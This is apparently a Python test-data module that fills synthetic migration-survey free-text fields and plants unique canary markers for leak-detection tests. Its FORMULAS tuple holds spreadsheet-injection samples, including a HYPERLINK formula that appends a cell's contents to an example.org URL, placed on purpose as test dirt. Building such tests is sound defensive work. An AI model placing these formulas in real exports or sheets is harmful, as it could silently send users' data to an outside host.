"""Open answers, with the leak markers in them. No marker may ever be found in a byte that leaves."""

from collections.abc import Sequence
from dataclasses import dataclass, field

import numpy as np

from portal.catalogue.synthetic_planted import Planter
from portal.catalogue.synthetic_sheet import Mask, Sheet, Texts, holds

FIELDS = ("quote", "other_specify", "smuggler_notes", "enumerator_comment", "qc_note")
FIRST = ("Zéphyrine", "Thibaldo", "Ondřeja", "Quillon", "Maëlisande", "Xiomérie")
LAST = ("Quenouillard", "Fitzabbecombe", "Vandermeulenaer", "Ystradgynlais", "Oystercatcher")
DEMO_COUNTRIES = ("NER", "LBY", "SDN")
FORMULAS = (
    '=HYPERLINK("http://example.org/?"&A1,"see more")',
    "+33 reasons, he said",
    "@SUM(1+1)*cmd",
    "-2+3 days on foot",
)
POOLS: dict[str, tuple[str, ...]] = {
    "quote": (
        "We walked at night because the days were too hot, and nobody told us how far it was.",
        "On nous a demandé de payer à chaque barrage, alors nous avons attendu.",
        "سافرنا ليلا لأن النهار كان حارا جدا ولم يخبرنا أحد عن المسافة.",
        "ညဘက်မှာ လမ်းလျှောက်ခဲ့ရတယ်၊ နေ့ခင်းဘက်က အရမ်းပူတယ်။",
        "Caminamos tres días, y en la frontera nos quitaron el dinero.",
        "I want to work, to send something home; that is all.",
    ),
    "other_specify": (
        "seasonal fishing",
        "a cousin's wedding",
        "aide d'un inconnu",
        "شاحنة ماعز",
        "football club",
        "tailor's apprentice",
    ),
    "smuggler_notes": (
        "Man in a white pick-up, changes drivers at the well.",
        "Contact donné par le logeur, payé en deux fois.",
        "وسيط في السوق القديم",
        "Asked for more money after the second checkpoint.",
    ),
    "enumerator_comment": (
        "Respondent was tired, break of ten minutes.",
        "Entretien interrompu par la pluie.",
        "Interview through a window.",
        "Good rapport, answered everything.",
        "تمت المقابلة بحضور أخيه",
    ),
    "qc_note": (
        "Length below limit, enumerator called.",
        "Recoded other to listed choice.",
        "Similar to another interview.",
        "Hors des heures prévues, vérifié.",
    ),
}
SHARES = {"quote": 0.04, "enumerator_comment": 0.05, "smuggler_notes": 0.1, "other_specify": 0.7, "qc_note": 1.0}


@dataclass
class Canaries:
    """Makes marker strings that nothing innocent contains."""

    rng: np.random.Generator
    made: list[str] = field(default_factory=list)

    def sentence(self, place: str) -> str:
        """Compose one open answer with a phone number, an address, a name and a unique sentence."""
        number = len(self.made)
        luck = self.rng.integers(0, 10**6, 3).tolist()
        marks = (
            f"+000 7{luck[0]:06d} {number:04d}",
            f"canary.{number:04d}.{luck[1]:06d}@example.org",
            f"{FIRST[number // 4 % len(FIRST)]} {LAST[number // 4 % len(LAST)]}-{luck[2]:06d}",
            f"The heron of Marlowe Quay counted {luck[0]:06d} lanterns for {place}",
        )
        self.made.extend(marks)
        return f"{marks[3]}; ask {marks[2]}, {marks[0]} or {marks[1]}."


def _universes(sheet: Sheet) -> dict[str, Mask]:
    anyone = np.ones(sheet.rows, dtype=bool)
    return {
        "quote": anyone,
        "enumerator_comment": anyone,
        "other_specify": sheet.says_other(),
        "smuggler_notes": np.isin(sheet["smuggler_use"], ["one", "several"]),
        "qc_note": sheet["qc_flag"] != "ok",
    }


def _drawn(rng: np.random.Generator, pool: Sequence[str], rows: int) -> Texts:
    return np.array(pool, dtype=object)[rng.integers(0, len(pool), rows)]


def _hiding_places(sheet: Sheet, universe: Mask, most: int) -> list[int]:
    """Choose rows for canaries, half of them where the demonstration will look."""
    wanted = np.isin(sheet["interview_country"], DEMO_COUNTRIES) & holds(
        sheet["interview_date"], lambda day: day[:4] in {"2019", "2020"}
    )
    wanted &= (sheet["consent_scope"] == "share_anon") & universe
    near = sheet.rng.permutation(np.flatnonzero(wanted))[: most // 2 + 1]
    far = sheet.rng.permutation(np.flatnonzero(universe & ~wanted))[: most - len(near)]
    return sorted([*near.tolist(), *far.tolist()])


def draw_text(sheet: Sheet, planter: Planter) -> tuple[str, ...]:
    """Fill section 16 and the other open answers; give the markers."""
    canaries = Canaries(sheet.rng)
    universes = _universes(sheet)
    for name in FIELDS:
        universe = universes[name] & sheet.asked(name)
        values = _drawn(sheet.rng, POOLS[name], sheet.rows)
        there = universe & (sheet.rng.random(sheet.rows) < SHARES[name])
        secret = _hiding_places(sheet, universe, max(4, sheet.rows // 1500))
        for row in secret:
            values[row] = canaries.sentence(name)
        there[secret] = True
        if name in {"quote", "other_specify", "enumerator_comment"}:
            _formulas(sheet, planter, (name, values, there), set(secret))
        sheet.put(name, values, there)
        planter.note("canary", name, secret)
        planter.taken.update(secret)
    system = [str(v) for name in ("username", "phonenumber", "deviceid", "simserial") for v in sorted(set(sheet[name]))]
    return (*canaries.made, *system)


def _formulas(sheet: Sheet, planter: Planter, column: tuple[str, Texts, Mask], secret: set[int]) -> None:
    name, values, there = column
    rows = [row for row in np.flatnonzero(there).tolist() if row not in secret][: max(4, sheet.rows // 2500)]
    for place, row in enumerate(rows):
        values[row] = FORMULAS[place % len(FORMULAS)]
    planter.note("dirt", f"formula-looking text in {name}", rows)
